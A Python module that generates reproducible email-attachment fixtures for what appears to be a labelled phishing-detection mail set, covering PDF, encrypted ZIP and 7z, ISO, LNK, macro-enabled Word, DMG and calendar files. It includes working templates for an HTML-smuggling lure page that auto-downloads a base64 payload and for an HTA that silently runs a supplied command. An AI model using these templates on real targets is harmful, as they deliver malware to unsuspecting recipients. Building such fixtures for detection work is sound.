"""Deterministic builders for the attachments of the labelled mail set.

Every builder returns bytes that depend only on its arguments, so `make_mail_set.py` regenerates
byte-identical files. The "malicious" files are inert fixtures: the LNK, HTA, macro and smuggling
payloads name invented hosts and do nothing useful, but their byte layouts are the real formats
(MS-SHLLINK, ISO 9660 + Joliet, MS-CFB + MS-OVBA, ZipCrypto, 7z AES) so a parser sees what it
would see in the wild.
"""

from __future__ import annotations

import base64
import hashlib
import io
import struct
import time
import zlib
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from unittest import mock

FIXED_TIME = (2026, 10, 1, 9, 0, 0)  # zip member time stamps
FIXED_EPOCH = 1790845200  # 2026-10-01 09:00:00 UTC, for formats that want seconds
FILETIME_EPOCH = 116444736000000000  # 1601-01-01 -> 1970-01-01 in 100 ns ticks


def _filetime(epoch: int = FIXED_EPOCH) -> int:
    return FILETIME_EPOCH + epoch * 10_000_000


def pseudo_random(seed: str, n: int) -> bytes:
    """n bytes derived from `seed`: stands in for the random salts and IVs of real tools."""
    out = b""
    counter = 0
    while len(out) < n:
        out += hashlib.sha256(f"{seed}:{counter}".encode()).digest()
        counter += 1
    return out[:n]


# -- PDF -------------------------------------------------------------------------------------------


def pdf(lines: Sequence[str], title: str = "Document") -> bytes:
    """A one-page PDF 1.4 with Helvetica text and a correct xref table (ASCII text only)."""

    def esc(s: str) -> str:
        return s.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")

    text_ops = ["BT", "/F1 11 Tf", "14 TL", "56 780 Td"]
    for line in lines:
        text_ops.append(f"({esc(line)}) Tj T*")
    text_ops.append("ET")
    stream = "\n".join(text_ops).encode("latin-1")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
         b"/Resources << /Font << /F1 5 0 R >> >> >>"),
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Title (" + esc(title).encode("latin-1") + b") /Producer (mail-set fixture) >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R /Info 6 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


# -- ZIP (plain and ZipCrypto) ---------------------------------------------------------------------

_CRC_TABLE = [0] * 256
for _i in range(256):
    _c = _i
    for _ in range(8):
        _c = (_c >> 1) ^ 0xEDB88320 if _c & 1 else _c >> 1
    _CRC_TABLE[_i] = _c


def _dos_time(t: tuple[int, int, int, int, int, int] = FIXED_TIME) -> tuple[int, int]:
    year, month, day, hour, minute, second = t
    return (hour << 11) | (minute << 5) | (second // 2), ((year - 1980) << 9) | (month << 5) | day


class _ZipCrypto:
    """Traditional PKWARE encryption (APPNOTE 6.1): weak, but what PPAP mail in Japan still uses."""

    def __init__(self, password: bytes) -> None:
        self.keys = [0x12345678, 0x23456789, 0x34567890]
        for byte in password:
            self._update(byte)

    @staticmethod
    def _crc(crc: int, byte: int) -> int:
        return (crc >> 8) ^ _CRC_TABLE[(crc ^ byte) & 0xFF]

    def _update(self, byte: int) -> None:
        k0, k1, k2 = self.keys
        k0 = self._crc(k0, byte)
        k1 = ((k1 + (k0 & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
        k2 = self._crc(k2, k1 >> 24)
        self.keys = [k0, k1, k2]

    def encrypt(self, data: bytes) -> bytes:
        out = bytearray()
        for byte in data:
            temp = (self.keys[2] | 2) & 0xFFFF
            out.append(byte ^ (((temp * (temp ^ 1)) >> 8) & 0xFF))
            self._update(byte)
        return bytes(out)


def zip_archive(members: Sequence[tuple[str, bytes]], password: str | None = None, deflate: bool = True) -> bytes:
    """A zip with fixed time stamps; ZipCrypto-encrypted when `password` is given.

    Names are stored as UTF-8 with the language-encoding flag (bit 11) when not ASCII.
    """
    out = io.BytesIO()
    central = []
    dos_time, dos_date = _dos_time()
    for name, data in members:
        raw_name = name.encode("utf-8")
        flags = 0x800 if not name.isascii() else 0
        crc = zlib.crc32(data) & 0xFFFFFFFF
        if deflate:
            packer = zlib.compressobj(9, zlib.DEFLATED, -15)
            payload = packer.compress(data) + packer.flush()
            method = 8
        else:
            payload, method = data, 0
        if password is not None:
            flags |= 0x1
            header = pseudo_random(f"zipcrypto:{name}", 11) + bytes([crc >> 24])
            payload = _ZipCrypto(password.encode("utf-8")).encrypt(header + payload)
        offset = out.tell()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, method, dos_time, dos_date, crc,
                              len(payload), len(data), len(raw_name), 0))
        out.write(raw_name)
        out.write(payload)
        central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x031E, 20, flags, method, dos_time,
                                   dos_date, crc, len(payload), len(data), len(raw_name), 0, 0, 0, 0,
                                   0o100644 << 16, offset) + raw_name)
    start = out.tell()
    for entry in central:
        out.write(entry)
    size = out.tell() - start
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), size, start, 0))
    return out.getvalue()


# -- 7z (AES-256 via py7zr) ------------------------------------------------------------------------


def seven_zip(members: Sequence[tuple[str, bytes]], password: str, seed: str) -> bytes:
    """An AES-encrypted 7z (headers encrypted too); the IV comes from `seed` for reproducibility."""
    import py7zr
    import py7zr.compressor

    buffer = io.BytesIO()

    def fake_random(n: int) -> bytes:
        return pseudo_random(f"7z:{seed}", n)

    with mock.patch.object(py7zr.compressor, "get_random_bytes", fake_random), \
         mock.patch("time.time", return_value=float(FIXED_EPOCH)), \
         py7zr.SevenZipFile(buffer, "w", password=password, header_encryption=True) as archive:
        for name, data in members:
            archive.writestr(data, name)
    return buffer.getvalue()


# -- LNK (MS-SHLLINK) ------------------------------------------------------------------------------

_LNK_CLSID = bytes.fromhex("0114020000000000c000000000000046")


def lnk(target: str, arguments: str, icon: str, working_dir: str = "", name: str = "",
        show_minimised: bool = True) -> bytes:
    """A Shell Link with LinkInfo (local base path) and Unicode StringData, as droppers use."""
    has_name, has_rel, has_wd, has_args, has_icon, has_info, unicode_ = 0x4, 0x8, 0x10, 0x20, 0x40, 0x2, 0x80
    flags = has_info | has_rel | has_args | has_icon | unicode_
    if name:
        flags |= has_name
    if working_dir:
        flags |= has_wd
    ft = _filetime()
    header = struct.pack("<I16sIIQQQIiIHHII", 0x4C, _LNK_CLSID, flags, 0x20, ft, ft, ft, 0, 0,
                         7 if show_minimised else 1, 0, 0, 0, 0)
    volume_label = b"\x00"
    volume_id = struct.pack("<IIII", 16 + len(volume_label), 3, 0x1A2B3C4D, 16) + volume_label
    base_path = target.encode("ascii") + b"\x00"
    suffix = b"\x00"
    info_header = 0x1C
    volume_offset = info_header
    base_offset = volume_offset + len(volume_id)
    suffix_offset = base_offset + len(base_path)
    info_size = suffix_offset + len(suffix)
    link_info = struct.pack("<IIIIIII", info_size, info_header, 0x1, volume_offset, base_offset, 0,
                            suffix_offset) + volume_id + base_path + suffix

    def counted(s: str) -> bytes:
        return struct.pack("<H", len(s)) + s.encode("utf-16-le")

    relative = "..\\..\\..\\" + target.split(":\\", 1)[-1]
    strings = b""
    if name:
        strings += counted(name)
    strings += counted(relative)
    if working_dir:
        strings += counted(working_dir)
    strings += counted(arguments) + counted(icon)
    return header + link_info + strings + struct.pack("<I", 0)


# -- ISO 9660 + Joliet (pycdlib) -------------------------------------------------------------------


@contextmanager
def _frozen_clock() -> Iterator[None]:
    with mock.patch("time.time", return_value=float(FIXED_EPOCH)), \
         mock.patch("time.localtime", side_effect=lambda t=None: time.gmtime(FIXED_EPOCH if t is None else t)):
        yield


def iso_image(members: Sequence[tuple[str, bytes]], volume: str = "DOCS") -> bytes:
    """An ISO 9660 image with Joliet long names (what mail-borne ISO droppers carry)."""
    import pycdlib

    with _frozen_clock():
        iso = pycdlib.PyCdlib()
        iso.new(joliet=3, vol_ident=volume)
        short_dirs: dict[str, str] = {"": ""}
        for index, (name, data) in enumerate(members):
            folder, _, _ = name.rpartition("/")
            if folder not in short_dirs:  # one level of folders is all the fixtures need
                short_dirs[folder] = f"/D{len(short_dirs):06d}"
                iso.add_directory(short_dirs[folder], joliet_path="/" + folder)
            short = f"{short_dirs[folder]}/F{index:06d}.;1"
            iso.add_fp(io.BytesIO(data), len(data), short, joliet_path="/" + name)
        buffer = io.BytesIO()
        iso.write_fp(buffer)
        iso.close()
    return buffer.getvalue()


# -- MS-CFB writer and a VBA project (MS-OVBA) -----------------------------------------------------

_FREE, _END, _FATSECT, _NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF


def _cfb_key(name: str) -> tuple[int, str]:
    return len(name), name.upper()


def compound_file(streams: dict[str, bytes]) -> bytes:
    """A version-3 compound file (512-byte sectors) holding `streams` keyed by "Storage/Stream" paths.

    Streams under 4096 bytes go to the mini stream, as the format requires. Sibling trees are
    balanced binary trees in the format's (length, upper-case) order, all nodes black.
    """
    # Directory model: index 0 = root; storages and streams follow.
    entries: list[dict[str, object]] = [{"name": "Root Entry", "type": 5, "children": [], "data": b""}]
    index_of: dict[str, int] = {"": 0}
    for path in sorted(streams):
        parts = path.split("/")
        parent = ""
        for depth, part in enumerate(parts):
            key = "/".join(parts[: depth + 1])
            is_stream = depth == len(parts) - 1
            if key not in index_of:
                index_of[key] = len(entries)
                entries.append({"name": part, "type": 2 if is_stream else 1, "children": [],
                                "data": streams[path] if is_stream else b""})
                children = entries[index_of[parent]]["children"]
                assert isinstance(children, list)
                children.append(index_of[key])
            parent = key

    # Allocate stream data: small streams in the mini stream, big ones in regular sectors.
    mini_stream = bytearray()
    mini_fat: list[int] = []
    big_streams: list[tuple[int, bytes]] = []
    start: dict[int, int] = {}
    for idx, entry in enumerate(entries):
        data = entry["data"]
        assert isinstance(data, bytes)
        if entry["type"] != 2:
            continue
        if not data:
            start[idx] = _END
        elif len(data) < 4096:
            first = len(mini_fat)
            count = -(-len(data) // 64)
            mini_fat.extend(list(range(first + 1, first + count)) + [_END])
            mini_stream += data + b"\x00" * (count * 64 - len(data))
            start[idx] = first
        else:
            big_streams.append((idx, data))

    sectors: list[bytes] = []
    fat: list[int] = []

    def place(data: bytes) -> int:
        if not data:
            return _END
        first = len(sectors)
        count = -(-len(data) // 512)
        for i in range(count):
            sectors.append(data[i * 512:(i + 1) * 512].ljust(512, b"\x00"))
            fat.append(first + i + 1 if i < count - 1 else _END)
        return first

    root_start = place(bytes(mini_stream))
    for idx, data in big_streams:
        start[idx] = place(data)
    mini_fat_bytes = b"".join(struct.pack("<I", v) for v in mini_fat)
    mini_fat_bytes += struct.pack("<I", _FREE) * ((-len(mini_fat)) % 128)
    mini_fat_start = place(mini_fat_bytes) if mini_fat else _END
    mini_fat_count = len(mini_fat_bytes) // 512 if mini_fat else 0

    # Sibling trees.
    left = [_NOSTREAM] * len(entries)
    right = [_NOSTREAM] * len(entries)
    child = [_NOSTREAM] * len(entries)

    def build(ids: list[int]) -> int:
        if not ids:
            return _NOSTREAM
        mid = len(ids) // 2
        root = ids[mid]
        left[root] = build(ids[:mid])
        right[root] = build(ids[mid + 1:])
        return root

    for idx, entry in enumerate(entries):
        kids = entry["children"]
        assert isinstance(kids, list)
        ordered = sorted(kids, key=lambda k: _cfb_key(str(entries[k]["name"])))
        child[idx] = build(ordered)

    directory = bytearray()
    for idx, entry in enumerate(entries):
        name = str(entry["name"])
        raw = name.encode("utf-16-le") + b"\x00\x00"
        data = entry["data"]
        assert isinstance(data, bytes)
        if entry["type"] == 5:
            first, size = root_start, len(mini_stream)
        elif entry["type"] == 2:
            first, size = start[idx], len(data)
        else:
            first, size = 0, 0
        directory += struct.pack("<64sHBBIII16sIQQIQ", raw.ljust(64, b"\x00"), len(raw), int(str(entry["type"])), 1,
                                 left[idx], right[idx], child[idx], b"\x00" * 16, 0, 0, 0, first, size)
    while len(directory) % 512:
        directory += struct.pack("<64sHBBIII16sIQQIQ", b"\x00" * 64, 0, 0, 0, _NOSTREAM, _NOSTREAM, _NOSTREAM,
                                 b"\x00" * 16, 0, 0, 0, 0, 0)
    dir_start = place(bytes(directory))

    # FAT sectors describe themselves too: grow until the count is stable.
    fat_count = 1
    while (len(fat) + fat_count) > fat_count * 128:
        fat_count += 1
    fat_first = len(sectors)
    fat.extend([_FATSECT] * fat_count)
    fat.extend([_FREE] * (fat_count * 128 - len(fat)))
    fat_bytes = b"".join(struct.pack("<I", v) for v in fat)
    for i in range(fat_count):
        sectors.append(fat_bytes[i * 512:(i + 1) * 512])
    if fat_count > 109:
        raise ValueError("compound file too large for a header-only DIFAT")

    difat = [fat_first + i for i in range(fat_count)] + [_FREE] * (109 - fat_count)
    header = struct.pack("<8s16sHHHHH6sIIIIIIIII", bytes.fromhex("d0cf11e0a1b11ae1"), b"\x00" * 16, 0x3E, 3,
                         0xFFFE, 9, 6, b"\x00" * 6, 0, fat_count, dir_start, 0, 4096, mini_fat_start,
                         mini_fat_count, _END, 0)
    header += b"".join(struct.pack("<I", v) for v in difat)
    assert len(header) == 512
    return header + b"".join(sectors)


def ovba_compress(data: bytes) -> bytes:
    """MS-OVBA CompressedContainer using literal tokens only (valid; just no back-references)."""
    out = bytearray(b"\x01")
    for chunk_start in range(0, len(data), 3640):  # 455 full token sequences fit one 4096-byte chunk
        chunk = data[chunk_start:chunk_start + 3640]
        body = bytearray()
        for i in range(0, len(chunk), 8):
            body.append(0)  # flag byte: the next (up to) 8 tokens are literals
            body += chunk[i:i + 8]
        out += struct.pack("<H", (len(body) + 2 - 3) | 0xB000) + body  # 0b011 signature, compressed
    return bytes(out)


def _record(record_id: int, data: bytes) -> bytes:
    return struct.pack("<HI", record_id, len(data)) + data


def vba_project(modules: Sequence[tuple[str, str, bool]], project: str = "Project") -> bytes:
    """vbaProject.bin with `modules` = (name, source code, is_document_module)."""
    cp = "cp1252"
    d = bytearray()
    d += _record(0x0001, struct.pack("<I", 1))  # SYSKIND Win32
    d += _record(0x0002, struct.pack("<I", 0x409))
    d += _record(0x0014, struct.pack("<I", 0x409))
    d += _record(0x0003, struct.pack("<H", 1252))
    d += _record(0x0004, project.encode(cp))
    d += _record(0x0005, b"") + _record(0x0040, b"")  # doc string, then its Unicode form
    d += _record(0x0006, b"") + _record(0x003D, b"")  # help file path x2
    d += _record(0x0007, struct.pack("<I", 0))
    d += _record(0x0008, struct.pack("<I", 0))
    d += struct.pack("<HIIH", 0x0009, 4, 1, 0)  # PROJECTVERSION: size field is fixed 4, 6 bytes follow
    d += _record(0x000C, b"") + _record(0x003C, b"")  # constants
    d += _record(0x000F, struct.pack("<H", len(modules)))
    d += _record(0x0013, struct.pack("<H", 0xFFFF))
    streams: dict[str, bytes] = {}
    for name, source, is_document in modules:
        d += _record(0x0019, name.encode(cp))
        d += _record(0x0047, name.encode("utf-16-le"))
        d += _record(0x001A, name.encode(cp)) + _record(0x0032, name.encode("utf-16-le"))
        d += _record(0x001C, b"") + _record(0x0048, b"")
        d += _record(0x0031, struct.pack("<I", 0))  # source starts at offset 0 (no performance cache)
        d += _record(0x001E, struct.pack("<I", 0))
        d += _record(0x002C, struct.pack("<H", 0xFFFF))
        d += struct.pack("<HI", 0x0022 if is_document else 0x0021, 0)
        d += struct.pack("<HI", 0x002B, 0)
        streams[f"VBA/{name}"] = ovba_compress(source.replace("\n", "\r\n").encode(cp))
    d += struct.pack("<HI", 0x0010, 0)
    streams["VBA/dir"] = ovba_compress(bytes(d))
    streams["VBA/_VBA_PROJECT"] = struct.pack("<HHBH", 0x61CC, 0xFFFF, 0, 0)
    lines = ['ID="{5B3A8D21-4C1E-4F7A-9D2B-6E1F0A3C7B94}"']
    for name, _, is_document in modules:
        lines.append(f"Document={name}/&H00000000" if is_document else f"Module={name}")
    lines += [f'Name="{project}"', 'HelpContextID="0"', 'VersionCompatible32="393222000"', "",
              "[Host Extender Info]", "&H00000001={3832D640-CF90-11CF-8E43-00A0C911005A};VBE;&H00000000", "",
              "[Workspace]"]
    lines += [f"{name}=0, 0, 0, 0, C" for name, _, _ in modules]
    streams["PROJECT"] = ("\r\n".join(lines) + "\r\n").encode(cp)
    streams["PROJECTwm"] = b"".join(n.encode(cp) + b"\x00" + n.encode("utf-16-le") + b"\x00\x00"
                                    for n, _, _ in modules) + b"\x00\x00"
    return compound_file(streams)


# -- OOXML (docx, docm, xlsx) ----------------------------------------------------------------------

_W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"


def _xml_escape(s: str) -> str:
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def word_document(paragraphs: Sequence[str], macro_modules: Sequence[tuple[str, str, bool]] | None = None) -> bytes:
    """A .docx, or a macro-enabled .docm carrying word/vbaProject.bin when `macro_modules` is given."""
    main_type = ("application/vnd.ms-word.document.macroEnabled.main+xml" if macro_modules
                 else "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml")
    content_types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        + ('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' if macro_modules else "")
        + f'<Override PartName="/word/document.xml" ContentType="{main_type}"/>'
        "</Types>"
    )
    root_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<Relationships xmlns="{_PKG_RELS}">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'officeDocument" Target="word/document.xml"/></Relationships>'
    )
    body = "".join(f"<w:p><w:r><w:t xml:space=\"preserve\">{_xml_escape(p)}</w:t></w:r></w:p>" for p in paragraphs)
    document = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                f'<w:document xmlns:w="{_W_NS}" xmlns:r="{_R_NS}"><w:body>{body}</w:body></w:document>')
    members = [("[Content_Types].xml", content_types.encode()), ("_rels/.rels", root_rels.encode()),
               ("word/document.xml", document.encode())]
    if macro_modules:
        doc_rels = (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            f'<Relationships xmlns="{_PKG_RELS}">'
            '<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
            'Target="vbaProject.bin"/></Relationships>'
        )
        members += [("word/_rels/document.xml.rels", doc_rels.encode()),
                    ("word/vbaProject.bin", vba_project(macro_modules))]
    return zip_archive(members)


def spreadsheet(rows: Sequence[Sequence[str]]) -> bytes:
    """A minimal .xlsx with inline strings (no macros)."""
    content_types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
    )
    root_rels = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="{_PKG_RELS}">'
                 '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                 'officeDocument" Target="xl/workbook.xml"/></Relationships>')
    ss_ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    workbook = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="{ss_ns}" '
                f'xmlns:r="{_R_NS}"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>')
    wb_rels = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="{_PKG_RELS}">'
               '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
               'worksheet" Target="worksheets/sheet1.xml"/></Relationships>')
    cells = ""
    for r, row in enumerate(rows, start=1):
        cells += f'<row r="{r}">'
        for c, value in enumerate(row):
            ref = f"{chr(65 + c)}{r}"
            cells += f'<c r="{ref}" t="inlineStr"><is><t>{_xml_escape(value)}</t></is></c>'
        cells += "</row>"
    sheet = f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="{ss_ns}"><sheetData>{cells}</sheetData></worksheet>'
    return zip_archive([("[Content_Types].xml", content_types.encode()), ("_rels/.rels", root_rels.encode()),
                        ("xl/workbook.xml", workbook.encode()), ("xl/_rels/workbook.xml.rels", wb_rels.encode()),
                        ("xl/worksheets/sheet1.xml", sheet.encode())])


# -- script-ish payloads ---------------------------------------------------------------------------


def html_smuggling(payload: bytes, download_name: str, title: str, lure_line: str) -> bytes:
    """An HTML page that rebuilds `payload` from base64 in the browser and saves it (HTML smuggling)."""
    blob = base64.b64encode(payload).decode()
    chunks = [blob[i:i + 76] for i in range(0, len(blob), 76)]
    joined = '" +\n    "'.join(chunks)
    page = f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>{title}</title></head>
<body style="font-family:Segoe UI,Arial">
<p>{lure_line}</p>
<p id="s">Preparing your document&hellip;</p>
<script>
  var d = "{joined}";
  var b = window.atob(d);
  var u = new Uint8Array(b.length);
  for (var i = 0; i < b.length; i++) {{ u[i] = b.charCodeAt(i); }}
  var f = new Blob([u], {{type: "application/octet-stream"}});
  var n = "{download_name}";
  if (window.navigator.msSaveOrOpenBlob) {{ window.navigator.msSaveOrOpenBlob(f, n); }}
  else {{
    var a = document.createElement("a");
    a.href = window.URL.createObjectURL(f);
    a.download = n;
    document.body.appendChild(a);
    a.click();
  }}
  document.getElementById("s").innerText = "Your download has started. Open " + n + " to view the document.";
</script>
</body></html>
"""
    return page.encode("utf-8")


def hta(command: str, title: str) -> bytes:
    page = f"""<html>
<head>
<title>{title}</title>
<HTA:APPLICATION ID="viewer" APPLICATIONNAME="SecureViewer" BORDER="none" SHOWINTASKBAR="no"
 SINGLEINSTANCE="yes" WINDOWSTATE="minimize">
<script language="VBScript">
  Sub Window_OnLoad
    Set sh = CreateObject("WScript.Shell")
    sh.Run "{command}", 0, False
    window.close()
  End Sub
</script>
</head>
<body>Loading secure message...</body>
</html>
"""
    return page.replace("\n", "\r\n").encode("utf-8")


def pe_stub(label: str) -> bytes:
    """The first bytes of a PE file (MZ header, DOS stub, PE signature); not a runnable program."""
    dos = bytearray(b"MZ" + b"\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00")
    dos = dos.ljust(0x3C, b"\x00") + struct.pack("<I", 0x80)
    dos = dos.ljust(0x40, b"\x00") + b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21"
    dos += b"This program cannot be run in DOS mode.\r\r\n$"
    dos = dos.ljust(0x80, b"\x00")
    coff = b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x14C, 0, FIXED_EPOCH, 0, 0, 0, 0x0102)
    return bytes(dos) + coff + f"\x00fixture:{label}\x00".encode() + b"\x00" * 64


def dmg(payload_name: str, seed: str) -> bytes:
    """An Apple disk image shape: opaque data fork, XML plist and the 512-byte "koly" trailer."""
    data_fork = pseudo_random(f"dmg:{seed}", 4096)
    plist = (f'<?xml version="1.0" encoding="UTF-8"?>\n<plist version="1.0"><dict><key>resource-fork</key>'
             f"<dict><key>blkx</key><array><dict><key>Name</key><string>{payload_name} (Apple_HFS : 4)</string>"
             "</dict></array></dict></dict></plist>\n").encode()
    trailer = bytearray(512)
    struct.pack_into(">4sII", trailer, 0, b"koly", 4, 512)
    struct.pack_into(">QQQ", trailer, 0x18, 0, len(data_fork), 0)  # data fork offset/length, rsrc offset
    struct.pack_into(">QQ", trailer, 0xD8, len(data_fork), len(plist))  # XML plist offset and length
    struct.pack_into(">I", trailer, 0x1E0, 1)  # image variant: device image
    return data_fork + plist + bytes(trailer)


def png(width: int = 4, height: int = 4, rgb: tuple[int, int, int] = (230, 120, 40)) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)

    raw = b"".join(b"\x00" + bytes(rgb) * width for _ in range(height))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw, 9)) + chunk(b"IEND", b""))


def ics(summary: str, start: str, end: str, organizer: str, attendee: str, location: str, uid: str) -> bytes:
    lines = ["BEGIN:VCALENDAR", "PRODID:-//Google Inc//Google Calendar 70.9054//EN", "VERSION:2.0",
             "CALSCALE:GREGORIAN", "METHOD:REQUEST", "BEGIN:VEVENT", f"DTSTART:{start}", f"DTEND:{end}",
             f"DTSTAMP:{start}", f"ORGANIZER;CN={organizer}:mailto:{organizer}", f"UID:{uid}",
             f"ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE:mailto:{attendee}",
             f"LOCATION:{location}", f"SUMMARY:{summary}", "STATUS:CONFIRMED", "SEQUENCE:0", "END:VEVENT",
             "END:VCALENDAR"]
    return ("\r\n".join(lines) + "\r\n").encode("utf-8")
